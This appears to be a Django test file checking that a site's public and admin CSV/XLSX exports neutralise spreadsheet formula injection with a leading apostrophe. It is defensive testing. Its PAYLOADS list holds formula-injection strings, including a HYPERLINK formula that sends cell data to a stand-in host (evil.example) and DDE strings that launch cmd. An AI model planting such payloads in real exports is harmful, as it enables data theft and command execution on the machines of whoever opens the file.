"""Every CSV the site writes is safe to open in a spreadsheet (OWASP "CSV Injection"):
text starting with = + - @ tab or carriage return comes out with a leading apostrophe,
in the public exports and the admin's, and the admin's export still imports back."""

import csv
import io

import openpyxl
import tablib
from django.contrib.auth import get_user_model
from django.test import TestCase
from django.urls import reverse

from jurisdictions.resources import JurisdictionResource
from letters.models import Letter
from letters.resources import LetterResource
from listing.exports import spreadsheet_safe
from tests import factories as f

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def read_csv(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


class SpreadsheetSafeTests(TestCase):
    def test_only_text_that_starts_like_a_formula_is_prefixed(self):
        for payload in [*PAYLOADS, "\tx", "\rx"]:
            self.assertEqual(spreadsheet_safe(payload), "'" + payload)
        for harmless in ["Stockton", "", "a=b", "-5", "-2.5", "+1", 5, -5, None]:
            self.assertEqual(spreadsheet_safe(harmless), harmless)


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        program = f.make_program("PSP", kind="grant")
        condition = f.make_condition("jail_access")
        cls.letters = []
        for index, payload in enumerate(PAYLOADS):
            recipient = f.make_jurisdiction(payload, slug=f"evil-{index}")
            cls.letters.append(f.make_letter(recipient, program, [condition], addressee=payload, notes=payload))
            f.make_event([recipient], title=payload, summary=payload)
        cls.admin = get_user_model().objects.create_superuser("manager", "m@example.org", "long-passphrase-11")

    def assert_neutralised(self, rows, column):
        """Each payload comes out in the column, and only ever behind an apostrophe."""
        values = {row[column] for row in rows if row[column].lstrip("'") in PAYLOADS}
        self.assertEqual(values, {"'" + payload for payload in PAYLOADS}, column)

    def test_public_csv_exports(self):
        cases = [
            ("/letters/", ["addressee", "recipient"]),
            ("/jurisdictions/", ["name"]),
            ("/timeline/", ["title", "summary"]),
            ("/matrix/", ["recipient"]),
        ]
        for path, columns in cases:
            response = self.client.get(path, {"format": "csv"})
            self.assertEqual(response.status_code, 200, path)
            rows = read_csv(response)
            for column in columns:
                with self.subTest(path=path, column=column):
                    self.assert_neutralised(rows, column)

    def test_admin_export_over_http(self):
        self.client.force_login(self.admin)
        fields = {f"letterresource_{name}": "on" for name in LetterResource._meta.fields}
        response = self.client.post(reverse("admin:letters_letter_export"), {"format": "0", "resource": "0", **fields})
        self.assertEqual(response.status_code, 200)
        self.assertIn("text/csv", response["Content-Type"])
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(len(rows), len(PAYLOADS))
        self.assert_neutralised(rows, "addressee")
        self.assert_neutralised(rows, "notes")

    def test_admin_xlsx_export_writes_text_not_formulae(self):
        exported = JurisdictionResource().export()
        sheet = openpyxl.load_workbook(io.BytesIO(exported.xlsx)).active
        names = [cell.value for cell in sheet["B"] if cell.value and cell.value.lstrip("'") in PAYLOADS]
        header = [cell.value for cell in sheet[1]]
        self.assertEqual(header[1], "name")
        self.assertEqual(sorted(names), sorted("'" + payload for payload in PAYLOADS))
        self.assertTrue(all(cell.data_type == "s" for cell in sheet["B"]))

    def test_admin_export_still_imports_back_unchanged(self):
        before = sorted(Letter.objects.values_list("addressee", "notes"))
        exported = LetterResource().export()
        result = LetterResource().import_data(tablib.Dataset().load(exported.csv, format="csv"), dry_run=False)
        self.assertFalse(result.has_errors() or result.has_validation_errors())
        self.assertEqual(result.totals["skip"], len(PAYLOADS))
        self.assertEqual(sorted(Letter.objects.values_list("addressee", "notes")), before)
